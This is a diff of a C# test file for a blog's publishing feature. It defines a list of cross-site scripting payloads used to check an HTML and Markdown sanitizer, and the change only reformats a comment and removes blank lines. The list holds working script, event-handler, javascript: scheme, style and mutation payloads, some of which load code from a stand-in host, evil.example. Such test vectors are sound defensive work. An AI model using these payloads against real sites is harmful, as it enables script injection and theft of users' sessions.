@@ -1,6 +1,9 @@
 namespace LiveBlog.Tests.Features.Publishing;
 
-/// <summary>One or more of each family: elements, handlers, schemes, encodings, broken markup, foreign content, mutation, styles, clobbering.</summary>
+/// <summary>
+/// One or more of each family: elements, handlers, schemes, encodings, broken markup, foreign content, mutation, styles,
+/// clobbering.
+/// </summary>
 static class XssVectors
 {
     public static readonly IReadOnlyList<string> All =
@@ -18,7 +21,6 @@ static class XssVectors
         "<script type=module>import('//evil.example')</script>",
         "\"><script>alert(1)</script>",
         "'><script>alert(1)</script>",
-
         // Handlers.
         "<img src=x onerror=alert(1)>",
         "<img/src=x/onerror=alert(1)>",
@@ -39,7 +41,6 @@ static class XssVectors
         "\" onmouseover=\"alert(1)",
         "' onfocus='alert(1)' autofocus='",
         "` onmouseover=alert(1) `",
-
         // Schemes.
         "javascript:alert(1)",
         "JaVaScRiPt:alert(1)",
@@ -60,7 +61,6 @@ static class XssVectors
         "<a href=\"//evil.example\" href=\"javascript:alert(1)\">x</a>",
         "<a href=\"feed:javascript:alert(1)\">x</a>",
         "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
-
         // Frames, objects, forms, documents.
         "<iframe src=javascript:alert(1)></iframe>",
         "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
@@ -74,13 +74,11 @@ static class XssVectors
         "<link rel=stylesheet href=//evil.example/x.css>",
         "<link rel=import href=//evil.example/x.html>",
         "<frameset onload=alert(1)></frameset>",
-
         // Styles.
         "<style>*{background:url(//evil.example)}</style>",
         "<p style=\"background:url(javascript:alert(1))\">x</p>",
         "<p style=\"width:expression(alert(1))\">x</p>",
         "<style>@import '//evil.example/x.css';</style>",
-
         // Foreign content and mutation.
         "<svg onload=alert(1)>",
         "<svg><script>alert(1)</script></svg>",
@@ -99,7 +97,6 @@ static class XssVectors
         "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
         "<template><script>alert(1)</script></template>",
         "<table><td><svg><desc><td><title><style><!--</style><img src onerror=alert(1)>-->",
-
         // Comments and half-finished markup.
         "<!--><img src=x onerror=alert(1)>-->",
         "<!--[if IE]><script>alert(1)</script><![endif]-->",
@@ -112,7 +109,6 @@ static class XssVectors
         "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
         "%3Cscript%3Ealert(1)%3C/script%3E",
         "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
-
         // Markdown's own ways, and ids that pose as the page's.
         "[x](javascript:alert(1))",
         "![x](x\"onerror=\"alert(1))",
